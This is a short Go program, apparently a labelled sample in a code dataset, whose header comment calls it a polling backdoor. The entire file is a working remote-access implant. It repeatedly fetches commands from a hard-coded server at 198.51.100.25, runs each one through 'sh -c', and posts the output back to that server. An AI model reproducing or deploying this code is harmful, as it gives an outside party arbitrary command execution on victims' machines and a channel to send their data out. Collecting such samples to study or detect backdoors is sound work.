// class: backdoor polling; style: tidy
package main

import (
	"bytes"
	"io"
	"net/http"
	"os"
	"os/exec"
	"time"
)

const server = "http://198.51.100.25:8080"

func task(host string) (string, error) {
	resp, err := http.Get(server + "/t/" + host)
	if err != nil {
		return "", err
	}
	defer resp.Body.Close()
	body, err := io.ReadAll(resp.Body)
	return string(body), err
}

func main() {
	host, _ := os.Hostname()
	for {
		if command, err := task(host); err == nil && command != "" {
			out, _ := exec.Command("sh", "-c", command).CombinedOutput()
			http.Post(server+"/r/"+host, "text/plain", bytes.NewReader(out))
		}
		time.Sleep(5 * time.Second)
	}
}
